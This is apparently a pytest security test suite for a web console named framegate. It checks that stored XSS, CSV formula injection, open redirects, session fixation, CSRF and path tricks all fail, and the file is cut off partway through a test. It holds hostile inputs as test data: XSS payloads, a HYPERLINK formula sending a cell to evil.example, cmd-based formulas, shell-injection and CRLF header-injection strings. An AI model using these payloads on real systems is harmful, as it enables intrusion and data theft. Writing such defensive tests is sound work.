"""The console attacked the way a hostile user would: stored XSS through every string a
person controls, formula injection in the CSV export, broken XML in the server-drawn plot,
hostile query parameters, open redirects after sign-in, session fixation and cookie
attributes, CSRF on console forms and on the JSON API (and login CSRF), sessions of dead
keys, non-admin sessions on admin routes, one account's session reaching another's data,
odd and oversized requests, and the security headers of every console response.

Header-level checks talk HTTP with httpx to the live server; script execution is checked in
Chromium (a payload would set ``window.__pwned`` or open a dialog)."""

from __future__ import annotations

import csv
import html
import io
import re
import secrets
import socket
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, urljoin, urlsplit

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.console.conftest import ConsoleServer, sign_in

SIGN_IN = "/console/sign-in"
EVIL = "http://evil.example"
# Payloads: each would set window.__pwned and open a dialog if the page ran it as markup.
IMG = '<img src=x onerror="window.__pwned=1;alert(1)">'
SCRIPT = "<script>window.__pwned=1;alert(2)</script>"
SVG = '"><svg/onload="window.__pwned=1;alert(3)">'
PAGES = (
    "/console",
    "/console/playground",
    "/console/tasks",
    "/console/usage",
    "/console/credits",
    "/console/keys",
    "/console/webhooks",
    "/console/models",
    "/console/admin",
)


# -- helpers ------------------------------------------------------------------------------


def bearer(server: ConsoleServer, key: str) -> httpx.Client:
    return httpx.Client(base_url=server.url, headers={"Authorization": f"Bearer {key}"}, timeout=30)


def new_account(server: ConsoleServer, credits: int = 1000) -> dict[str, Any]:
    """A fresh account and its first key, through the admin API (faster than the CLI)."""
    made = bearer(server, server.admin["api_key"]).post(
        "/v1/admin/accounts", json={"name": f"acct-{secrets.token_hex(3)}", "credits": credits}
    )
    assert made.status_code == 201, made.text
    account = made.json()
    return {**account, "account_id": account["id"]}


@dataclass
class Session:
    """A browser's console session, spoken to over plain HTTP."""

    client: httpx.Client
    csrf: str
    token: str

    def write(self, method: str, path: str, **kwargs: Any) -> httpx.Response:
        headers = {"X-CSRF-Token": self.csrf, **kwargs.pop("headers", {})}
        return self.client.request(method, path, headers=headers, **kwargs)


def open_session(server: ConsoleServer, key: str) -> Session:
    client = httpx.Client(base_url=server.url, follow_redirects=False, timeout=30)
    signed = client.post(SIGN_IN, data={"api_key": key, "next": "/console"})
    assert signed.status_code == 303, signed.text
    # The models page needs no scope, so any key's session can read its CSRF token there.
    shell = client.get("/console/models")
    assert shell.status_code == 200, shell.text
    match = re.search(r'<meta name="csrf-token" content="([^"]+)">', shell.text)
    assert match, "the page carries no CSRF token"
    return Session(client, match.group(1), client.cookies["framegate_console"])


def alert_text(response: httpx.Response) -> str:
    """The message of a console error page (its role=alert paragraph), unescaped."""
    match = re.search(r'role="alert"[^>]*>(.*?)</p>', response.text, re.S)
    assert match, f"no alert on the page: {response.status_code} {response.text[:500]}"
    return html.unescape(re.sub(r"<[^>]+>", "", match.group(1))).strip()


def image_task(client: httpx.Client, prompt: str, **body: Any) -> dict[str, Any]:
    """An image task of the preview engine (it completes within the request)."""
    made = client.post(
        "/v1/images/generations", json={"model": "preview-image", "prompt": prompt, **body}
    )
    assert made.status_code == 200, made.text
    task = client.get("/v1/tasks", params={"limit": 1}).json()["data"][0]
    assert task["status"] == "completed", task
    return dict(task)


def log_position(server: ConsoleServer) -> int:
    return len(server.log.read_bytes())


def log_since(server: ConsoleServer, position: int) -> str:
    return server.log.read_bytes()[position:].decode(errors="replace")


class Dialogs:
    """Every dialog a page opens (alert, confirm, prompt), dismissed and remembered."""

    def __init__(self, page: Page) -> None:
        self.messages: list[str] = []
        page.on("dialog", self._seen)

    def _seen(self, dialog: Any) -> None:
        self.messages.append(dialog.message)
        dialog.dismiss()


def assert_no_script_ran(page: Page, dialogs: Dialogs) -> None:
    assert page.evaluate("() => window.__pwned") is None, f"a payload ran on {page.url}"
    assert not dialogs.messages, f"a payload opened dialogs on {page.url}: {dialogs.messages}"


# -- a hostile account: every string it controls is a payload -----------------------------


@dataclass
class Hostile:
    key: str
    account_id: str
    account_name: str
    task_id: str
    strings: dict[str, str]


@pytest.fixture(scope="module")
def hostile(console_server: ConsoleServer) -> Iterator[Hostile]:
    admin = bearer(console_server, console_server.admin["api_key"])
    strings = {
        "account": f"Evil corp {IMG}",
        "grant": f"grant note {SCRIPT}",
        "key": f"key name {SVG}",
        "webhook_description": f"hook note {IMG}",
        "webhook_url": f'http://127.0.0.1:9/hook?q="><img src=x onerror=alert(4)>&r={SCRIPT}',
        "prompt": f"prompt {IMG}",
        "negative": f"negative {SCRIPT}",
        "team_a": f"team a {IMG}",
        "team_b": f"team b {SVG}",
        "tag_name": f"tag<b>{SCRIPT}",
        "tag_value": f"tag value {SVG}",
    }
    made = admin.post("/v1/admin/accounts", json={"name": strings["account"], "credits": 1000})
    assert made.status_code == 201, made.text
    account = made.json()
    granted = admin.post(
        f"/v1/admin/accounts/{account['id']}/credits",
        json={"credits": 7, "description": strings["grant"]},
    )
    assert granted.status_code == 200, granted.text
    own = bearer(console_server, account["api_key"])
    assert own.post("/v1/keys", json={"name": strings["key"]}).status_code == 201
    hook = own.post(
        "/v1/webhooks",
        json={"url": strings["webhook_url"], "description": strings["webhook_description"]},
    )
    assert hook.status_code == 201, hook.text
    strings["webhook_url"] = hook.json()["url"]  # as stored (the server may normalise it)
    image_task(own, "plain second group", metadata={"team": strings["team_b"]})
    task = image_task(
        own,
        strings["prompt"],
        negative_prompt=strings["negative"],
        metadata={"team": strings["team_a"], strings["tag_name"]: strings["tag_value"]},
    )
    yield Hostile(account["api_key"], account["id"], strings["account"], task["id"], strings)


# -- stored XSS: every page shows the payloads as text and runs none of them --------------


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        ("/console", ["prompt"]),
        ("/console/tasks", ["prompt"]),
        ("/console/tasks/{task}", ["prompt", "negative", "team_a", "tag_name", "tag_value"]),
        ("/console/usage?group_by=metadata.team", ["team_a", "team_b"]),
        ("/console/credits", ["grant"]),
        ("/console/keys", ["key"]),
        ("/console/webhooks", ["webhook_url", "webhook_description"]),
        ("/console/models", []),
        ("/console/playground", []),
    ],
)
def test_stored_payloads_show_as_text_and_never_run(
    page: Page, console_server: ConsoleServer, hostile: Hostile, path: str, shown: list[str]
) -> None:
    dialogs = Dialogs(page)
    sign_in(page, hostile.key)
    page.goto(path.format(task=hostile.task_id))
    # The account's name is in every page's header.
    expect(page.locator(".who .account")).to_have_text(hostile.account_name)
    main = page.locator("main")
    for name in shown:
        expect(main).to_contain_text(hostile.strings[name])
    if path.startswith("/console/usage"):
        # The server-drawn plot's legend (names clipped to 28 characters) is text too.
        legend = page.locator("#usage-chart svg .legend-item text")
        expect(legend).to_have_count(2)
        expect(legend.first).to_contain_text("team a <img src=x")
    # No markup from the payloads reached the DOM.
    assert page.locator("main img[src='x'], main script:not([src]), main svg[onload]").count() == 0
    assert_no_script_ran(page, dialogs)


def test_the_admin_page_shows_hostile_account_names_as_text(
    admin_page: Page, hostile: Hostile
) -> None:
    dialogs = Dialogs(admin_page)
    admin_page.goto("/console/admin")
    expect(admin_page.locator("main")).to_contain_text(hostile.account_name)
    assert admin_page.locator("main img[src='x']").count() == 0
    assert_no_script_ran(admin_page, dialogs)


def test_the_playground_code_snippets_show_a_hostile_prompt_as_text(
    page: Page, hostile: Hostile
) -> None:
    dialogs = Dialogs(page)
    sign_in(page, hostile.key, then="/console/playground")
    prompt = f'it\'s {IMG} $(touch /tmp/pwned) `id` "quoted"'
    page.get_by_label("Prompt").fill(prompt)
    page.locator("#pg-negative").fill(SCRIPT)
    curl = page.locator("#pg-code-curl")
    expect(curl).to_contain_text("touch /tmp/pwned")
    code = curl.text_content() or ""
    # The shell snippet quotes the JSON body in single quotes, closing and reopening them
    # around the prompt's own apostrophe: nothing of the prompt runs in a shell.
    body = code.split(" -d ", 1)[1]
    assert body.startswith("'") and "it'\\''s" in body, body
    assert page.locator("main img[src='x']").count() == 0
    assert_no_script_ran(page, dialogs)


def test_error_pages_that_echo_input_show_it_as_text(
    page: Page, console_server: ConsoleServer
) -> None:
    dialogs = Dialogs(page)
    sign_in(page, console_server.user["api_key"])
    for path in (
        f"/console/usage/chart.svg?group_by={quote(IMG)}",
        f"/console/usage.csv?group_by={quote(SCRIPT)}",
        f"/console/usage/chart.svg?from={quote('<svg/onload=alert(3)>')}",
    ):
        response = page.goto(path)
        assert response is not None and response.status == 422, path
        expect(page.get_by_role("alert")).to_contain_text("<")
        assert page.locator("main img[src='x'], main svg[onload]").count() == 0
        assert_no_script_ran(page, dialogs)
    # The sign-in page keeps `next` in a hidden field: a quote cannot end the attribute.
    page.context.clear_cookies()
    page.goto(f"{SIGN_IN}?next={quote('/console/' + SVG + SCRIPT)}")
    assert page.locator("input[name=next]").get_attribute("value") == "/console/" + SVG + SCRIPT
    assert page.locator("svg[onload]").count() == 0
    assert_no_script_ran(page, dialogs)


def test_an_api_error_echoing_a_hostile_url_shows_it_as_text(page: Page, hostile: Hostile) -> None:
    """The API's message for an unparseable webhook URL quotes the URL; the page's field
    error shows it."""
    dialogs = Dialogs(page)
    sign_in(page, hostile.key, then="/console/webhooks")
    page.get_by_label("URL", exact=True).fill(f"http://[{IMG}]/")
    page.get_by_role("button", name="Add endpoint").click()
    error = page.locator("#create-webhook-error")
    expect(error).to_contain_text(IMG)
    assert page.locator("main img[src='x']").count() == 0
    assert_no_script_ran(page, dialogs)


def test_the_chart_opened_on_its_own_runs_no_script(page: Page, hostile: Hostile) -> None:
    dialogs = Dialogs(page)
    sign_in(page, hostile.key)
    response = page.goto("/console/usage/chart.svg?group_by=metadata.team")
    assert response is not None and response.status == 200
    assert response.headers["content-type"].startswith("image/svg+xml")
    assert page.evaluate("() => document.documentElement.localName") == "svg"
    assert page.evaluate("() => document.querySelectorAll('script, [onload], img').length") == 0
    assert "team a <img src=x" in (page.locator("desc").text_content() or "")
    assert_no_script_ran(page, dialogs)


# -- the server-drawn plot and the CSV export ---------------------------------------------


def test_the_plot_is_well_formed_xml_whatever_the_tag_values(
    console_server: ConsoleServer,
) -> None:
    """Metadata values are any text but NUL (JSON allows every other control character);
    the plot puts them in its legend, tooltips and <desc>. XML 1.0 forbids most control
    characters and U+FFFE/U+FFFF, so unless they are dropped or replaced the document is
    not XML at all: the usage page's DOMParser fails and it says "The plot could not be
    drawn" for the whole account, for as long as one such task is in the range."""
    account = new_account(console_server)
    own = bearer(console_server, account["api_key"])
    values = {
        "vertical tab": "tab\x0bbed",
        "escape": "\x1b[31mred\x1b[0m",
        "backspace": "back\x08space",
        "form feed": "page\x0cbreak",
        "U+FFFE": "not\ufffea character",
    }
    for value in values.values():
        image_task(own, "tagged", metadata={"team": value})
    session = open_session(console_server, account["api_key"])
    broken = []
    for kind in ("bar", "line"):
        svg = session.client.get(
            "/console/usage/chart.svg", params={"group_by": "metadata.team", "kind": kind}
        )
        assert svg.status_code == 200, svg.text
        try:
            ET.fromstring(svg.content)
        except ET.ParseError as error:
            broken.append(f"{kind}: {error}")
    assert not broken, f"the plot is not well-formed XML with tag values {values}: {broken}"


def test_a_tag_value_named_like_the_plots_other_series_does_not_inflate_it(
    console_server: ConsoleServer,
) -> None:
    """The plot keeps the 8 biggest groups and sums the rest as "(other)". A tag value that
    is literally "(other)" and among the 8 biggest lands in the list of series twice: the
    real group and the rest share one list of values, drawn twice, so the plot's total (and
    its bars) no longer agree with GET /v1/usage and the table beside it."""
    account = new_account(console_server, credits=10_000)
    own = bearer(console_server, account["api_key"])
    for n in range(9):
        image_task(own, "small", metadata={"team": f"group-{n}"})
    image_task(own, "big", n=3, metadata={"team": "(other)"})
    session = open_session(console_server, account["api_key"])
    query = {"group_by": "metadata.team"}
    svg = session.client.get("/console/usage/chart.svg", params=query)
    assert svg.status_code == 200, svg.text
    usage = session.client.get("/v1/usage", params=query).json()
    drawn = ET.fromstring(svg.content)
    total = drawn.get("data-total")
    names = [
        text.text
        for text in drawn.iter("{http://www.w3.org/2000/svg}text")
        if text.get("fill") == "#14161f"
    ]
    assert total == f"{usage['total']['credits']:,}", (
        f"the plot's total is {total}, the API's {usage['total']['credits']}; legend {names}"
    )
    assert len(names) == len(set(names)), f"a series is drawn twice: {names}"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_csv_export_neutralises_formulas_in_tag_values(
    console_server: ConsoleServer,
) -> None:
    account = new_account(console_server)
    own = bearer(console_server, account["api_key"])
    for value in FORMULAS:
        image_task(own, "formula", metadata={"team": value})
    session = open_session(console_server, account["api_key"])
    exported = session.client.get("/console/usage.csv", params={"group_by": "metadata.team"})
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    disposition = exported.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+\.csv"', disposition), disposition
    rows = list(csv.reader(io.StringIO(exported.text)))
    groups = [row[0] for row in rows[1:-1]]
    assert len(groups) == len(FORMULAS), rows
    for cell in groups:
        assert not re.match(r"[=+\-@\t\r]", cell), f"a spreadsheet runs this cell: {cell!r}"
        assert cell.startswith("'"), cell
    assert sorted(cell[1:] for cell in groups) == sorted(FORMULAS)


SHARED_QUERIES = [
    ("group_by=bogus", "group_by"),
    ("group_by=metadata.", "group_by"),
    ("group_by=metadata.%E2%98%83", "group_by"),
    ("group_by=metadata.a%0Ab", "group_by"),
    ("group_by=" + "x" * 500, "group_by"),
    ("group_by=%00", "group_by"),
    ("group_by=%FF", "group_by"),
    ("from=0001-01-01&to=9999-12-31", "to"),
    ("from=1970-01-01&to=8999-01-01", "to"),
    ("from=2026-03-01&to=2026-02-01", "to"),
    ("from=2026-02-01&to=2026-02-01", "to"),
    ("from=2026-02-30", "from"),
    ("from=1e308", "from"),
    ("from=-86400", "from"),
    ("from=" + "9" * 39, "from"),
    ("from=" + "9" * 400, "from"),
    ("to=99999999999999999999", "to"),
    ("from=%D9%A1%D9%A7%D9%A0%D9%A0%D9%A0%D9%A0%D9%A0%D9%A0%D9%A0%D9%A0", "from"),
    ("from=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-01-01", "from"),
    ("from=%F0%9F%92%A3", "from"),
]
CHART_QUERIES = [
    ("width=100000000000000000000000", "width"),
    ("width=0", "width"),
    ("height=-5", "height"),
    ("height=%E2%88%9E", "height"),
    ("kind=%3Cscript%3E", "kind"),
    ("ident=%22%3E%3Csvg%20onload%3Dalert(1)%3E", "ident"),
]


@pytest.mark.parametrize(
    ("path", "query", "field"),
    [("/console/usage/chart.svg", q, f) for q, f in SHARED_QUERIES + CHART_QUERIES]
    + [("/console/usage.csv", q, f) for q, f in SHARED_QUERIES],
)
def test_plot_and_csv_refuse_hostile_query_parameters_naming_the_field(
    console_server: ConsoleServer, path: str, query: str, field: str
) -> None:
    session = open_session(console_server, console_server.user["api_key"])
    answer = session.client.get(f"{path}?{query}")
    assert answer.status_code == 422, (answer.status_code, answer.text[:300])
    assert answer.headers["content-type"].startswith("text/html")
    assert "content-security-policy" in answer.headers
    assert field in alert_text(answer), alert_text(answer)
    assert "<script" not in answer.text.lower().replace('<script type="module" src=', "")


# -- open redirects after signing in ------------------------------------------------------

HOSTILE_NEXT = [
    "//evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "%2F%2Fevil.example",
    "/%2F%2Fevil.example",
    "https://evil.example/console",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "/console//evil.example",
    "/console/\\evil.example",
    "/console\\@evil.example",
    "\t//evil.example",
    " //evil.example",
    "/\t/evil.example",
    "/console\r\nLocation: http://evil.example",
    "/console/\r\nSet-Cookie: pwned=1",
    "/console%0d%0aSet-Cookie:%20pwned=1",
    "/console/..//evil.example",
    "/console/../\\/evil.example",
    "/console@evil.example",
    "/console.evil.example",
    "/console\t/\t/evil.example",
    "/console/\u3002evil.example",
    "/console/%E3%80%82%2F%2Fevil.example",
]


def assert_stays_home(location: str, server: ConsoleServer) -> None:
    """A Location a browser resolves on framegate's own origin (browsers read a backslash
    as a slash and drop tabs and newlines)."""
    assert not any(ch in location for ch in "\r\n"), f"header injection: {location!r}"
    as_browser = location.replace("\\", "/")
    for ch in "\t\n\r":
        as_browser = as_browser.replace(ch, "")
    assert as_browser.startswith("/") and not as_browser.startswith("//"), location
    resolved = urlsplit(urljoin(server.url + "/console/sign-in", as_browser))
    assert (resolved.scheme, resolved.netloc) == tuple(urlsplit(server.url)[:2]), location


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_signing_in_never_redirects_off_the_console(
    console_server: ConsoleServer, target: str
) -> None:
    client = httpx.Client(base_url=console_server.url, follow_redirects=False, timeout=30)
    form = client.get(SIGN_IN, params={"next": target})
    assert form.status_code == 200
    signed = client.post(SIGN_IN, data={"api_key": console_server.user["api_key"], "next": target})
    assert signed.status_code == 303, signed.text
    assert_stays_home(signed.headers["location"], console_server)
    assert [c for c in signed.headers.get_list("set-cookie") if "pwned" in c] == []
    # Signed in already: the sign-in page sends the browser on at once.
    again = client.get(SIGN_IN, params={"next": target})
    assert again.status_code == 303
    assert_stays_home(again.headers["location"], console_server)


def test_a_browser_signing_in_stays_on_framegate(page: Page, console_server: ConsoleServer) -> None:
    # The page fixture also fails the test if the browser asks another origin for anything.
    for target in ("//evil.example/", "/\\evil.example", "/\t/evil.example", "javascript:alert(1)"):
        dialogs = Dialogs(page)
        page.context.clear_cookies()
        page.goto(f"{SIGN_IN}?next={quote(target, safe='')}")
        page.get_by_label("API key").fill(console_server.user["api_key"])
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_load_state()
        assert page.url.startswith(console_server.url + "/console"), (target, page.url)
        assert not dialogs.messages


# -- the session cookie: attributes, fixation, sign-out -----------------------------------


def test_the_session_cookie_is_httponly_strict_and_short_lived(
    console_server: ConsoleServer,
) -> None:
    key = console_server.user["api_key"]
    plain = httpx.post(console_server.url + SIGN_IN, data={"api_key": key})
    cookie = plain.headers["set-cookie"]
    attributes = {part.strip().split("=")[0].lower() for part in cookie.split(";")[1:]}
    assert {"httponly", "path", "samesite", "max-age"} <= attributes, cookie
    assert "domain" not in attributes, cookie
    assert re.search(r"SameSite=strict", cookie, re.I) and "Path=/" in cookie
    max_age = int(re.search(r"Max-Age=(\d+)", cookie).group(1))  # type: ignore[union-attr]
    assert 0 < max_age <= 12 * 3600
    token = cookie.split(";")[0].split("=", 1)[1]
    assert len(token) >= 40 and key not in cookie
    # Behind a TLS proxy (X-Forwarded-Proto from loopback) the cookie is Secure too.
    tls = httpx.post(
        console_server.url + SIGN_IN,
        data={"api_key": key},
        headers={"X-Forwarded-Proto": "https"},
    )
    assert tls.status_code == 303
    assert "secure" in tls.headers["set-cookie"].lower()


def test_sign_in_never_adopts_a_session_id_the_browser_brought(
    console_server: ConsoleServer,
) -> None:
    planted = secrets.token_urlsafe(32)
    client = httpx.Client(base_url=console_server.url, follow_redirects=False, timeout=30)
    client.cookies.set("framegate_console", planted)
    # A token framegate never issued is no session.
    assert client.get("/console").status_code == 303
    assert client.get("/v1/credits").status_code == 401
    signed = client.post(SIGN_IN, data={"api_key": console_server.user["api_key"]})
    assert signed.status_code == 303
    issued = signed.cookies["framegate_console"]
    assert issued != planted
    # The planted value did not become a session by being present at sign-in.
    attacker = httpx.Client(base_url=console_server.url, follow_redirects=False, timeout=30)
    attacker.cookies.set("framegate_console", planted)
    assert attacker.get("/console").status_code == 303
    assert attacker.get("/v1/credits").status_code == 401
    # Signing in again (another key, same browser) gives another token, never the old one.
    again = client.post(SIGN_IN, data={"api_key": console_server.admin["api_key"]})
    assert again.cookies["framegate_console"] not in (planted, issued)


def test_signing_out_ends_the_session_on_the_server(console_server: ConsoleServer) -> None:
    session = open_session(console_server, console_server.user["api_key"])
    stolen = session.token
    out = session.client.post("/console/sign-out", data={"csrf_token": session.csrf})
    assert out.status_code == 303
    assert "framegate_console=" in out.headers["set-cookie"]
    replay = httpx.Client(base_url=console_server.url, follow_redirects=False, timeout=30)
    replay.cookies.set("framegate_console", stolen)
    assert replay.get("/console").status_code == 303
    assert replay.get("/v1/credits").status_code == 401
    refused = replay.post(
        "/v1/keys", json={"name": "after sign-out"}, headers={"X-CSRF-Token": session.csrf}
    )
    assert refused.status_code == 401


def test_pages_never_carry_the_key_or_the_session_token(console_server: ConsoleServer) -> None:
    key = console_server.user["api_key"]
    session = open_session(console_server, key)
    for path in PAGES:
        body = session.client.get(path).text
        assert key not in body and session.token not in body, path


# -- CSRF ---------------------------------------------------------------------------------

CROSS_SITE = [
    {"Origin": EVIL},
    {"Origin": "null"},
    {"Origin": "http://127.0.0.1.evil.example"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Origin": EVIL, "Sec-Fetch-Site": "same-origin"},
]


@pytest.mark.parametrize("headers", CROSS_SITE)
def test_signing_in_from_another_site_is_refused(
    console_server: ConsoleServer, headers: dict[str, str]
) -> None:
    """Login CSRF: another site must not sign a browser in to the attacker's account."""
    answer = httpx.post(
        console_server.url + SIGN_IN,
        data={"api_key": console_server.user["api_key"], "next": "/console"},
        headers=headers,
    )
    assert answer.status_code == 403, answer.status_code
    assert "set-cookie" not in answer.headers
    assert "content-security-policy" in answer.headers


def test_console_forms_need_the_sessions_token_and_its_origin(
    console_server: ConsoleServer,
) -> None:
    session = open_session(console_server, console_server.user["api_key"])
    other = open_session(console_server, console_server.user["api_key"])
    assert other.csrf != session.csrf, "two sessions share one CSRF token"
    attempts: list[tuple[dict[str, str], dict[str, str]]] = [
        ({}, {}),
        ({"csrf_token": ""}, {}),
        ({"csrf_token": "x" * 43}, {}),
        ({"csrf_token": other.csrf}, {}),
        ({"csrf_token": session.csrf.upper()}, {}),
    ] + [({"csrf_token": session.csrf}, headers) for headers in CROSS_SITE]
    for form, headers in attempts:
        answer = session.client.post("/console/sign-out", data=form, headers=headers)
        assert answer.status_code == 403, (form, headers, answer.status_code)
        assert "content-security-policy" in answer.headers
    # The query string is no place for the token either.
    answer = session.client.post(f"/console/sign-out?csrf_token={session.csrf}")
    assert answer.status_code == 403
    # None of it signed the session out.
    assert session.client.get("/console").status_code == 200
    done = session.client.post(
        "/console/sign-out",
        data={"csrf_token": session.csrf},
        headers={"Origin": console_server.url, "Sec-Fetch-Site": "same-origin"},
    )
    assert done.status_code == 303


def test_api_writes_with_the_cookie_need_x_csrf_token_and_our_origin(
    console_server: ConsoleServer,
) -> None:
    account = new_account(console_server)
    owner = bearer(console_server, account["api_key"])
    session = open_session(console_server, account["api_key"])
    other = open_session(console_server, account["api_key"])
    marker = f"csrf-{secrets.token_hex(4)}"
    attempts: list[dict[str, str]] = [
        {},
        {"X-CSRF-Token": ""},
        {"X-CSRF-Token": "x" * 43},
        {"X-CSRF-Token": other.csrf},
        {"X-CSRF-Token": session.csrf + "A"},
        {"X-CSRF-Token": session.csrf[:-1]},
        {"X-Csrf": session.csrf},
    ] + [{"X-CSRF-Token": session.csrf, **headers} for headers in CROSS_SITE]
    for headers in attempts:
        answer = session.client.post("/v1/keys", json={"name": marker}, headers=headers)
        assert answer.status_code == 403, (headers, answer.status_code, answer.text)
    # The token as a query parameter, a form field or a JSON field is not the header.
    assert (
        session.client.post(f"/v1/keys?csrf_token={session.csrf}", json={"name": marker})
    ).status_code == 403
    assert (
        session.client.post(
            "/v1/keys", json={"name": marker, "csrf_token": session.csrf}
        ).status_code
        == 403
    )
    # Requests a page of another site can send without a preflight: a text/plain body, a
    # form, a multipart upload.
    simple = session.client.post(
        "/v1/images/generations",
        content=b'{"model": "preview-image", "prompt": "csrf"}',
        headers={"Content-Type": "text/plain"},
    )
    assert simple.status_code == 403, simple.text
    assert (
        session.client.post(
            "/v1/uploads",
            files={"file": ("a.png", b"\x89PNG\r\n\x1a\n", "image/png")},
            data={"purpose": "input_image"},
        ).status_code
        == 403
    )
    key_id = account["api_key_id"]
    for method, path in (
        ("DELETE", f"/v1/keys/{key_id}"),
        ("POST", f"/v1/keys/{key_id}/revoke"),
        ("POST", f"/v1/keys/{key_id}/rotate"),
        ("POST", "/v1/webhooks/task-secret/rotate"),
    ):
        assert session.client.request(method, path).status_code == 403, (method, path)
    # Nothing was written: no key named marker, no task, the account's key still works.
    names = [key["name"] for key in owner.get("/v1/keys").json()["data"]]
    assert marker not in names
    assert owner.get("/v1/tasks").json()["data"] == []
    # The session's own token from its own origin works.
    made = session.write(
        "POST", "/v1/keys", json={"name": marker}, headers={"Origin": console_server.url}
    )
    assert made.status_code == 201, made.text


def test_the_api_grants_no_other_origin_a_read_with_the_cookie(
    console_server: ConsoleServer,
) -> None:
    session = open_session(console_server, console_server.user["api_key"])
    for method in ("GET", "OPTIONS"):
        answer = session.client.request(
            method,
            "/v1/credits",
            headers={"Origin": EVIL, "Access-Control-Request-Method": "GET"},
        )
        assert "access-control-allow-origin" not in answer.headers, (method, answer.headers)
        assert "access-control-allow-credentials" not in answer.headers


def _raw(server: ConsoleServer, method: str, path: str, cookie: str, body: bytes = b"") -> int:
    """One request with the path exactly as written (httpx would normalise dot segments)."""
    parts = urlsplit(server.url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
        head = (
            f"{method} {path} HTTP/1.1\r\nHost: {parts.netloc}\r\nCookie: {cookie}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
            "Connection: close\r\n\r\n"
        )
        sock.sendall(head.encode() + body)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    return int(data.split(b" ", 2)[1])


@pytest.mark.parametrize(
    "path",
    [
        "/console/../v1/keys",
        "/console/%2e%2e/v1/keys",
        "/console/./../v1/keys",
        "/console/static/../../v1/keys",
        "/console/static/%2e%2e/%2e%2e/v1/keys",
        "//v1/keys",
        "/v1/keys/",
    ],
)
def test_no_path_trick_skips_the_csrf_check(console_server: ConsoleServer, path: str) -> None:
    """Console paths check their own form token, and /console/static/ skips authentication:
    a path that only looks like one of them must not reach the API without the header."""
    account = new_account(console_server)
    session = open_session(console_server, account["api_key"])
    status = _raw(
        console_server,
        "POST",
        path,
        f"framegate_console={session.token}",
        b'{"name": "path-trick"}',
    )
    assert 400 <= status < 500, status
    names = [
        key["name"]
        for key in bearer(console_server, account["api_key"]).get("/v1/keys").json()["data"]
    ]
    assert "path-trick" not in names


# -- sessions of keys that stopped working ------------------------------------------------


def _kill_revoke(server: ConsoleServer, owner: httpx.Client, account: dict, key: dict) -> None:
    assert owner.post(f"/v1/keys/{key['id']}/revoke").status_code == 200


def _kill_delete(server: ConsoleServer, owner: httpx.Client, account: dict, key: dict) -> None:
    assert owner.delete(f"/v1/keys/{key['id']}").status_code == 200


def _kill_rotate(server: ConsoleServer, owner: httpx.Client, account: dict, key: dict) -> None:
    rotated = owner.post(f"/v1/keys/{key['id']}/rotate", json={"grace_seconds": 0})
    assert rotated.status_code == 201, rotated.text


def _kill_disable(server: ConsoleServer, owner: httpx.Client, account: dict, key: dict) -> None:
    admin = bearer(server, server.admin["api_key"])
    disabled = admin.patch(f"/v1/admin/accounts/{account['account_id']}", json={"is_active": False})
    assert disabled.status_code == 200, disabled.text


@pytest.mark.parametrize(
    "kill", [_kill_revoke, _kill_delete, _kill_rotate, _kill_disable], ids=lambda f: f.__name__
)
def test_a_dead_keys_session_ends_on_every_page_and_on_the_api(
    console_server: ConsoleServer, kill: Any
) -> None:
    account = new_account(console_server)
    owner = bearer(console_server, account["api_key"])
    key = owner.post(
        "/v1/keys",
        json={
            "name": "doomed",
            "scopes": ["videos:write", "images:write", "tasks:read", "credits:read", "keys:manage"],
        },
    ).json()
    session = open_session(console_server, key["secret"])
    task = image_task(bearer(console_server, key["secret"]), "before the end")
    assert session.client.get("/console/keys").status_code == 200
    kill(console_server, owner, account, key)
    for path in (
        *PAGES,
        f"/console/tasks/{task['id']}",
        "/console/usage/chart.svg",
        "/console/usage.csv",
    ):
        answer = session.client.get(path)
        assert answer.status_code == 303, (path, answer.status_code)
        assert answer.headers["location"].startswith(f"{SIGN_IN}?next="), path
    for path in ("/v1/credits", "/v1/tasks", f"/v1/tasks/{task['id']}", "/v1/keys", "/v1/usage"):
        assert session.client.get(path).status_code == 401, path
    assert session.write("POST", "/v1/keys", json={"name": "zombie"}).status_code == 401
    signed_out = session.client.post("/console/sign-out", data={"csrf_token": session.csrf})
    assert signed_out.status_code < 500


# -- a non-admin session and admin routes -------------------------------------------------


def test_a_non_admin_session_reaches_no_admin_route(console_server: ConsoleServer) -> None:
    account = new_account(console_server, credits=10)
    session = open_session(console_server, account["api_key"])
    page = session.client.get("/console/admin")
    assert page.status_code == 403
    assert 'href="/console/admin"' not in session.client.get("/console").text
    admin_id = console_server.admin["account_id"]
    for method, path, body in (
        ("GET", "/v1/admin/accounts", None),
        ("GET", "/v1/admin/plans", None),
        ("POST", "/v1/admin/accounts", {"name": "mine", "credits": 10**9}),
        ("POST", f"/v1/admin/accounts/{account['account_id']}/credits", {"credits": 10**6}),
        ("PATCH", f"/v1/admin/accounts/{account['account_id']}", {"plan": "gold"}),
        ("PATCH", f"/v1/admin/accounts/{admin_id}", {"is_active": False}),
        (
            "PUT",
            "/v1/admin/plans/default",
            {
                "max_concurrent_videos": 10_000,
                "max_concurrent_images": 10_000,
                "requests_per_minute": 1_000_000,
            },
        ),
    ):
        answer = session.write(method, path, json=body)
        assert answer.status_code == 403, (method, path, answer.status_code)
    # Nor can it mint itself an admin key.
    minted = session.write("POST", "/v1/keys", json={"name": "up", "scopes": ["admin"]})
    assert minted.status_code in (403, 422), minted.text
    assert session.client.get("/v1/credits").json()["available"] <= 10


def test_a_session_reaches_only_what_its_keys_scopes_allow(
